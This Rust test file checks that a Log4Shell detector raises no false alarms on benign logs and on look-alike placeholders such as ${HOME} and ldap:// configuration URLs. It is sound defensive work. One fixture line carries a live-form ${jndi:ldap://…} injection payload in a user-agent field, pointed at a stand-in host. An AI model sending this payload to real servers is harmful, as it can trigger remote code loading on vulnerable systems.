//! False positives: benign logs must give no attack hit.
//!
//! The issue's correctness bar: at least 1 GiB of realistic benign logs
//! (access, JSON application logs, syslog, error logs) with zero remote-lookup
//! hits, and none of its listed look-alikes (`${HOME}`, `${user.home}`,
//! `${spring.datasource.url}`, `${var:-default}`, "jndi" in prose, `ldap://`
//! in configuration, `${jndi}` without a protocol) reported as an attack.

use std::io::{self, Read};

use vigilo_detect::synth::{Kind, Synth};
use vigilo_detect::{Detector, Hit, Options};

/// Counts the lines of what passes through.
struct CountLines<R> {
    inner: R,
    lines: u64,
}

impl<R: Read> Read for CountLines<R> {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        let n = self.inner.read(buf)?;
        self.lines += memchr::memchr_iter(b'\n', &buf[..n]).count() as u64;
        Ok(n)
    }
}

fn describe(hits: &[Hit]) -> String {
    hits.iter()
        .take(10)
        .map(|h| {
            format!(
                "line {} [{}] raw={:?} decoded={:?}",
                h.line,
                h.rule.code(),
                h.raw,
                h.decoded
            )
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// 1 GiB of generated benign logs, streamed from the generator into the
/// detector without touching the disk: no remote lookup, no attack.
/// Benign lookups are asked for too, so the detector has to classify them
/// rather than drop them unseen. One real attack line after the gibibyte
/// shows the detector was awake to the end: it is the only hit, with its
/// line number, address and time.
#[test]
fn a_gibibyte_of_benign_logs_gives_no_attack_hit() {
    const SIZE: u64 = 1 << 30;
    const ATTACK: &[u8] = b"203.0.113.99 - - [13/Dec/2021:09:00:00 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" \"${jndi:ldap://198.51.100.66:1389/a}\"\n";
    let detector = Detector::new(Options {
        include_benign: true,
        ..Options::default()
    });
    let mut attacks = Vec::new();
    let mut reader = CountLines {
        inner: Synth::new(Kind::Mixed, 2021).take_bytes(SIZE).chain(ATTACK),
        lines: 0,
    };
    let stats = detector
        .scan_reader(&mut reader, &mut |hit| {
            if hit.rule.is_attack() {
                attacks.push(hit);
            }
        })
        .unwrap();
    assert!(
        stats.bytes >= SIZE + ATTACK.len() as u64,
        "scanned {} bytes",
        stats.bytes
    );
    assert_eq!(stats.lines, reader.lines, "every line is scanned");
    let benign_remote: Vec<Hit> = attacks
        .iter()
        .filter(|h| h.line != reader.lines && h.rule.is_remote_lookup())
        .cloned()
        .collect();
    assert!(
        benign_remote.is_empty(),
        "remote-lookup hits in benign logs:\n{}",
        describe(&benign_remote)
    );
    let benign_attacks: Vec<Hit> = attacks
        .iter()
        .filter(|h| h.line != reader.lines)
        .cloned()
        .collect();
    assert!(
        benign_attacks.is_empty(),
        "attack hits in benign logs:\n{}",
        describe(&benign_attacks)
    );
    assert_eq!(
        attacks.len(),
        1,
        "the attack line after the benign logs:\n{}",
        describe(&attacks)
    );
    let hit = &attacks[0];
    assert!(hit.rule.is_remote_lookup(), "{}", describe(&attacks));
    assert_eq!(hit.line, reader.lines);
    assert!(
        hit.offset >= SIZE && hit.offset < stats.bytes,
        "offset {}",
        hit.offset
    );
    assert_eq!(hit.source_ip, Some("203.0.113.99".parse().unwrap()));
    assert_eq!(hit.timestamp, Some("2021-12-13T09:00:00Z".parse().unwrap()));
}

fn attacks_in(detector: &Detector, line: &str) -> Vec<Hit> {
    let mut text = line.to_owned();
    text.push('\n');
    detector
        .scan_bytes(text.as_bytes())
        .into_iter()
        .filter(|h| h.rule.is_attack())
        .collect()
}

fn assert_benign(lines: &[&str]) {
    for include_benign in [false, true] {
        let detector = Detector::new(Options {
            include_benign,
            ..Options::default()
        });
        for line in lines {
            let hits = attacks_in(&detector, line);
            assert!(hits.is_empty(), "{line}\n{}", describe(&hits));
        }
    }
}

/// The look-alikes the issue lists, each in the layouts it turns up in,
/// plain and in the encodings logs add.
#[test]
fn the_issues_false_positives_are_not_attacks() {
    assert_benign(&[
        // ${HOME}
        r#"Dec 10 12:00:00 web-01 CRON[4242]: (deploy) CMD (test -x ${HOME}/bin/backup.sh && ${HOME}/bin/backup.sh)"#,
        r#"203.0.113.5 - - [10/Dec/2021:12:00:00 +0000] "GET /docs?q=%24%7BHOME%7D%2Fbin HTTP/1.1" 200 512 "-" "curl/7.68.0""#,
        // ${user.home}
        r#"{"@timestamp":"2021-12-10T12:00:00Z","message":"Using cache directory ${user.home}/.cache/app","level":"INFO"}"#,
        r#"{"@timestamp":"2021-12-10T12:00:00Z","message":"Using cache directory \u0024{user.home}/.cache/app","level":"INFO"}"#,
        // ${spring.datasource.url}
        r#"{"@timestamp":"2021-12-10T12:00:00Z","message":"Could not resolve placeholder 'spring.datasource.url' in value \"${spring.datasource.url}\"","level":"ERROR"}"#,
        r#"198.51.100.7 - - [10/Dec/2021:12:00:00 +0000] "GET /search?q=$%7Bspring.datasource.url%7D HTTP/1.1" 200 9 "-" "Mozilla/5.0""#,
        "<p>Set &#36;{spring.datasource.url} in application.properties</p>",
        // ${var:-default} resolving to something harmless
        "2021-12-10 12:00:00.000  INFO 1 --- [main] c.e.Config : region=${APP_REGION:-eu-west-1}",
        "Template variable ${var:-default} left unresolved",
        "nested default ${a:-${b:-harmless}} and ${lower:HELLO}",
        // "jndi" in prose
        "JNDI lookups are disabled (log4j2.formatMsgNoLookups=true); see the jndi section of the docs",
        "Looking up JNDI name java:comp/env/jdbc/ds for the orders DataSource",
        // ldap:// URLs in benign configuration
        "spring.ldap.urls=ldap://ldap.corp.example:389/dc=corp,dc=example",
        r#"{"@timestamp":"2021-12-10T12:00:00Z","message":"LDAP provider url=ldap://ldap.corp.example:389/dc=corp","level":"INFO"}"#,
        // ${jndi} with no protocol
        "Unresolved placeholder ${jndi} in template mail-footer.ftl",
        "${JNDI} and ${jndi:-}",
        // A JNDI lookup of the container's own environment: local, not remote.
        "log4j2.xml property ${jndi:java:comp/env/jdbc/x} resolved",
    ]);
}

/// `${jndi:-ldap://…}` names the variable `jndi` with a default: Log4j
/// splits at the first `:-` before looking at prefixes, so the lookup
/// resolves to the text `ldap://…` and nothing is fetched.
#[test]
fn jndi_as_a_variable_with_a_default_is_not_a_lookup() {
    let detector = Detector::new(Options::default());
    let hits: Vec<Hit> = detector
        .scan_bytes(b"x ${jndi:-ldap://ldap.corp.example/a} y\n")
        .into_iter()
        .filter(|h| h.rule.is_remote_lookup())
        .collect();
    assert!(hits.is_empty(), "{}", describe(&hits));
}

/// The generator's own trigger lines, each scanned on its own: none is an
/// attack (a quicker, more pointed check than the gibibyte).
#[test]
fn the_generators_trigger_lines_are_not_attacks() {
    let triggers = ["${", "%24", "\\u0024", "\\x24", "&#36;", "&dollar;"];
    let detector = Detector::new(Options {
        include_benign: true,
        ..Options::default()
    });
    let mut text = Vec::new();
    Synth::new(Kind::Mixed, 7)
        .take_bytes(8 << 20)
        .read_to_end(&mut text)
        .unwrap();
    let text = String::from_utf8(text).unwrap();
    let mut checked = 0;
    for line in text.lines() {
        let lower = line.to_ascii_lowercase();
        if triggers.iter().any(|t| lower.contains(t)) {
            checked += 1;
            let hits = attacks_in(&detector, line);
            assert!(hits.is_empty(), "{line}\n{}", describe(&hits));
        }
    }
    assert!(checked > 50, "only {checked} trigger lines");
}
